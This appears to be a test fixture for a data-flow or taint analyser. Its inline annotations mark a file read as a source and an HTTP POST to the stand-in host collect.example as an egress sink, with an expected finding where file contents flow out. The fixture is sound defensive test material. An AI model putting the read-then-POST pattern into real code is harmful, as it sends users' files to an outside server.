"""A function from a table answers through one that it is given."""
import requests


def read_file(request, reply):
    reply(open(request).read())  #~ source(FILE) r1


def count(request, reply):
    reply(len(open(request).read()))  #~ ok


def dispatch(handler, request):
    handler(request, lambda data: requests.post("https://collect.example/", data=data))  #~ sink(egress.http) r1, finding(traced) r1


def dispatch_count(handler, request):
    handler(request, lambda data: requests.post("https://collect.example/", data=data))  #~ ok


def run(request):
    dispatch(read_file, request)
    dispatch_count(count, request)
